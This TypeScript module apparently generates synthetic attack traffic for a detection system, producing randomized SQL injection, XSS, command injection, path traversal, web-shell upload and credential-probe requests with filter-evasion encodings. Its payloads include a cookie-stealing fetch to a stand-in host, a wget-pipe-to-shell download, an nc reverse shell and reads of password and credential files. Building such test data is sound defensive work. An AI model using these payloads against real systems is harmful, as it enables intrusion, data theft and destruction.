import type { AttackType } from '../../../contract/attack-type.ts'
import type { Random } from './random.ts'
import type { TrafficLogin, TrafficRequest } from './request.ts'
import { anyHost, browsers, hosts, listedAddress, publicAddress, scripts } from './world.ts'

/** One step of an attacker's campaign. */
export type Step = TrafficRequest | TrafficLogin

const parameters = ['id', 'q', 'cat', 'page', 'user', 'item', 'sort', 'lang']
const pages = ['/product', '/news.php', '/search', '/view', '/index.php', '/item', '/api/items']

/** Upper and lower case mixed, as tools do to pass filters. */
const mixCase = (text: string, random: Random): string =>
  random.chance(0.4) ? [...text].map((c) => (random.chance(0.5) ? c.toUpperCase() : c)).join('') : text

function encode(text: string, random: Random): string {
  const once = encodeURIComponent(text)
  const way = random.next()
  if (way < 0.5) return once
  if (way < 0.7) return once.replaceAll('%20', '+')
  if (way < 0.85) return once.replaceAll('%', '%25')
  return [...text]
    .map((c) =>
      c.charCodeAt(0) < 128 && random.chance(0.6)
        ? `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`
        : encodeURIComponent(c),
    )
    .join('')
}

function sql(random: Random): string {
  const columns = Array.from({ length: random.int(1, 9) }, (_, i) =>
    random.pick([String(i + 1), 'null', 'user()', '@@version']),
  ).join(',')
  const blank = random.pick([' ', ' ', '/**/', '\t'])
  const end = random.pick(['-- -', '#', '--+', ''])
  const head = random.pick(["'", '"', "')", '-1', '1', '99999'])
  const body = random.pick([
    () => `union all select ${columns} from information_schema.tables`,
    () => `union select ${columns}`,
    () => `or ${random.int(1, 9)}=${random.int(1, 9)}`,
    () => `and sleep(${random.int(3, 12)})`,
    () => `and extractvalue(1,concat(0x7e,(select database())))`,
    () => `;waitfor delay '0:0:${random.int(3, 9)}'`,
    () =>
      `and ascii(substr((select password from users limit 1),${random.int(1, 30)},1))>${random.int(48, 122)}`,
    () => `;drop table ${random.pick(['users', 'orders', 'sessions'])}`,
  ])()
  return `${head}${blank}${mixCase(body, random).replaceAll(' ', blank)}${end}`
}

function script(random: Random): string {
  const call = random.pick([
    'alert(1)',
    'alert(document.cookie)',
    'fetch("//x.example/?c="+document.cookie)',
    'prompt`1`',
    'confirm(document.domain)',
  ])
  return random.pick([
    () => `<${mixCase('script', random)}>${call}</script>`,
    () => `"><img src=x onerror=${call}>`,
    () => `<svg/onload=${call}>`,
    () => `'-${call}-'`,
    () => `" autofocus onfocus=${call} x="`,
    () => `javascript:${call}`,
    () => `<iframe srcdoc="<script>${call}</script>">`,
  ])()
}

function shell(random: Random): string {
  const command = random.pick([
    'id',
    'cat /etc/passwd',
    'wget http://203.0.113.66/x.sh -O- | sh',
    'uname -a',
    'ping -c 3 203.0.113.66',
    'nc -e /bin/sh 203.0.113.66 4444',
    'whoami',
    'ls -la /var/www',
  ])
  return random.pick([
    () => `127.0.0.1;${command}`,
    () => `x|${command}`,
    () => `$(${command})`,
    () => `\`${command}\``,
    () => `a&&${command.replaceAll(' ', '${IFS}')}`,
    () => `x%0a${command}`.replace('%0a', '\n'),
  ])()
}

const traversal = (random: Random): string => {
  const up = random.pick(['../', '..\\', '....//', '..%2f', '%2e%2e/', '..%c0%af']).repeat(random.int(3, 8))
  return `${up}${random.pick(['etc/passwd', 'etc/shadow', 'windows/win.ini', 'proc/self/environ', 'var/log/apache2/access.log', 'boot.ini'])}${random.pick(['', '%00', '%00.jpg'])}`
}

type Make = (random: Random, ip: string, userAgent: string) => Step[]

const get = (
  random: Random,
  ip: string,
  userAgent: string,
  target: string,
  status = random.pick([200, 200, 403, 404, 500]),
): TrafficRequest => ({
  ip,
  host: anyHost(random),
  method: 'GET',
  target,
  status,
  bytes: random.int(200, 9_000),
  userAgent,
})

const withPayload =
  (payload: (random: Random) => string): Make =>
  (random, ip, userAgent) => {
    const [page, parameter] = [random.pick(pages), random.pick(parameters)]
    return Array.from({ length: random.int(2, 6) }, () =>
      get(random, ip, userAgent, `${page}?${parameter}=${encode(payload(random), random)}`),
    )
  }

const accounts = [
  'admin',
  'root',
  'test',
  'oracle',
  'ubuntu',
  'git',
  'pi',
  'postgres',
  'deploy',
  'user',
  'ftp',
  'nagios',
]
const probes = [
  '/.env',
  '/.git/config',
  '/wp-config.php.bak',
  '/phpmyadmin/',
  '/backup.zip',
  '/server-status',
  '/actuator/env',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/test.cgi',
  '/manager/html',
  '/.aws/credentials',
  '/solr/admin',
]

const campaigns: { readonly [type in AttackType]: Make } = {
  'sql-injection': withPayload(sql),
  xss: withPayload(script),
  'command-injection': withPayload(shell),
  'path-traversal': (random, ip, userAgent) =>
    Array.from({ length: random.int(2, 6) }, () =>
      get(
        random,
        ip,
        userAgent,
        `${random.pick(['/download?file=', '/view?page=', '/index.php?lang='])}${traversal(random)}`,
      ),
    ),
  'nosql-injection': (random, ip, userAgent) =>
    Array.from({ length: random.int(2, 5) }, () =>
      get(
        random,
        ip,
        userAgent,
        random.pick([
          () => `/login?username[$ne]=${random.text(4)}&password[$ne]=x`,
          () => `/api/users?filter=${encode('{"$gt":""}', random)}`,
          () => `/api/users?filter=${encode(`';return true;var x='`, random)}`,
          () => `/login?user=${encode('{"$regex":"^adm"}', random)}`,
          () => `/search?q[$where]=${encode('sleep(5000)', random)}`,
        ])(),
      ),
    ),
  'crlf-injection': (random, ip, userAgent) =>
    Array.from({ length: random.int(2, 4) }, () =>
      get(
        random,
        ip,
        userAgent,
        `/redirect?url=/${random.pick(['%0d%0a', '%0a', '%E5%98%8A%E5%98%8D', '%250d%250a'])}${random.pick(['Set-Cookie:session=', 'Location:%20//', 'X-Forwarded-Host:'])}${random.text(6)}`,
        302,
      ),
    ),
  'file-upload': (random, ip, userAgent) => {
    const name = random.text(6)
    return [
      {
        ...get(
          random,
          ip,
          userAgent,
          `/upload.php?filename=${name}.${random.pick(['phtml', 'php5', 'jspx', 'phar'])}`,
          200,
        ),
        method: 'POST',
      },
      get(
        random,
        ip,
        userAgent,
        `/uploads/${name}.${random.pick(['php', 'phtml', 'php.jpg'])}`,
        random.pick([200, 404]),
      ),
      get(
        random,
        ip,
        userAgent,
        `/uploads/${random.pick(['c99', 'wso', 'shell', 'b374k'])}.php?cmd=${random.pick(['id', 'whoami', 'uname'])}`,
        random.pick([200, 404]),
      ),
    ]
  },
  scanner: (random, ip) => {
    const tool = random.pick([
      'sqlmap/1.9.4#stable (https://sqlmap.org)',
      'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
      'Mozilla/5.0 (compatible; Nuclei - Open-source project)',
      'gobuster/3.8',
      'Mozilla/5.0 zgrab/0.x',
    ])
    return Array.from({ length: random.int(4, 12) }, () => get(random, ip, tool, random.pick(probes), 404))
  },
  'brute-force': (random, ip, userAgent) => {
    if (random.chance(0.5)) {
      return Array.from({ length: random.int(9, 20) }, () => ({
        ip,
        host: 'web1',
        user: random.pick(accounts),
        accepted: false,
      }))
    }
    return Array.from({ length: random.int(9, 20) }, () => ({
      ip,
      host: hosts.shop,
      method: 'POST',
      target: '/login',
      status: 401,
      bytes: 312,
      referer: `https://${hosts.shop}/login`,
      userAgent,
    }))
  },
  csrf: (random, ip) =>
    Array.from({ length: random.int(1, 3) }, () => ({
      ip,
      host: hosts.shop,
      method: 'POST',
      needsHost: true,
      status: 302,
      bytes: 0,
      userAgent: random.pick(browsers),
      target: random.pick(['/account/email', '/account/password', '/transfer', '/cart/checkout']),
      referer: `https://${random.pick(['win-a-phone', 'free-gift', 'holiday-photos'])}.example.net/`,
    })),
  'ip-reputation': (random, _ip, userAgent) => {
    const listed = listedAddress(random)
    return Array.from({ length: random.int(1, 3) }, () =>
      get(random, listed, userAgent, random.pick(['/', '/login', '/news'])),
    )
  },
}

export const campaignTypes = Object.keys(campaigns)

export interface Campaign {
  readonly type: AttackType
  readonly steps: Step[]
}

/** A new campaign: one actor, one goal, a few requests from one address. */
export function newCampaign(type: AttackType, random: Random): Campaign {
  const userAgent = random.chance(0.6) ? random.pick(browsers) : random.pick(scripts)
  return { type, steps: campaigns[type](random, publicAddress(random), userAgent) }
}
